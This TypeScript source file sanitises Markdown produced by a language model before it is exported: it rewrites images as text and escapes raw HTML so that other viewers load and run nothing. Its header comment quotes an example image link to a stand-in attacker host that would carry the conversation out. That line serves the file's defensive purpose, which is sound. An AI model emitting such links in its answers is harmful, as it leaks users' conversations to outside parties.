/**
 * Markdown from a model made safe to open somewhere else (an exported file in an editor's preview, a Markdown
 * viewer, a wiki): nothing in it loads from the network or runs by itself.
 *
 * The component never loads images, but other viewers do: `![x](https://attacker.example/?q=…)` in an answer would
 * send the conversation out the moment the exported file is opened. So every image becomes text saying where it
 * points (`image: alt (\`https://…\`)`), and every piece of raw HTML (`<img src>`, `<iframe>`, `<svg>`, `<style>`…)
 * has its `<` written as `&lt;`, so it shows as text. Code spans and blocks, links and everything else are kept as written.
 * The Markdown is read with the same lexer the component renders with (marked, CommonMark + GFM).
 */
import { Lexer, type Token, type Tokens } from 'marked';
import { decodeEntities } from './entities.js';
import { lexerOptions } from './safe-tree.js';

interface Edit {
  /** Text of the source to find, in document order. */
  find: string;
  replace: string;
}

export function inertMarkdown(markdown: string): string {
  // The lexer works on normalized line ends; so do the edits.
  let text = markdown.replace(/\r\n?/g, '\n');
  // Escaping can expose markup that was hidden inside an HTML block; a few passes reach a fixed point.
  for (let pass = 0; pass < 4; pass++) {
    const edits: Edit[] = [];
    collect(lex(text), edits);
    if (!edits.length) return text;
    const next = apply(text, edits);
    if (next === text) break;
    text = next;
  }
  // Still not inert (never seen; a guard, not a path): every tag opener and image marker as text, code included.
  return text.replace(/</g, '&lt;').replace(/!\[/g, '&#33;[');
}

const lex = (source: string) => new Lexer(lexerOptions()).lex(source);

function apply(source: string, edits: Edit[]): string {
  let out = '';
  let at = 0;
  for (const edit of edits) {
    const index = source.indexOf(edit.find, at);
    if (index < 0) continue; // the next pass finds what is left
    out += source.slice(at, index) + edit.replace;
    at = index + edit.find.length;
  }
  return out + source.slice(at);
}

function collect(tokens: readonly Token[], edits: Edit[]): void {
  for (const token of tokens) {
    switch (token.type) {
      case 'code':
      case 'codespan':
        break; // shown as written, never rendered
      case 'image': {
        const t = token as Tokens.Image;
        const alt = decodeEntities(t.text).replace(/\s+/g, ' ').trim() || 'image';
        edits.push({ find: t.raw, replace: `image: ${escapeText(alt)} (${codeSpan(decodeEntities(t.href))})` });
        break;
      }
      case 'html':
        // Line by line: an HTML block inside a list or quote has its indentation or markers in the source.
        for (const line of (token as Tokens.HTML).raw.split('\n')) {
          // An entity, not a backslash: nothing (a URL autolink swallowing the backslash, say) can turn it back into a tag.
          if (line.includes('<')) edits.push({ find: line, replace: line.replace(/</g, '&lt;') });
        }
        break;
      default: {
        const t = token as Token & { tokens?: Token[]; items?: Tokens.ListItem[]; header?: Tokens.TableCell[]; rows?: Tokens.TableCell[][] };
        if (t.tokens) collect(t.tokens, edits);
        if (t.items) collect(t.items, edits);
        if (t.header) for (const cell of t.header) collect(cell.tokens, edits);
        if (t.rows) for (const row of t.rows) for (const cell of row) collect(cell.tokens, edits);
      }
    }
  }
}

/** Markdown text that renders as itself (the alt text must not form new markup). */
const escapeText = (text: string) => text.replace(/[\\`*_[\]<>!&|]/g, (c) => `\\${c}`);

/** A code span holding `text` whatever backticks it contains. */
function codeSpan(text: string): string {
  const longest = Math.max(0, ...(text.match(/`+/g) ?? []).map((run) => run.length));
  const fence = '`'.repeat(longest + 1);
  const pad = text.startsWith('`') || text.endsWith('`') ? ' ' : '';
  return `${fence}${pad}${text.replace(/\n/g, ' ')}${pad}${fence}`;
}
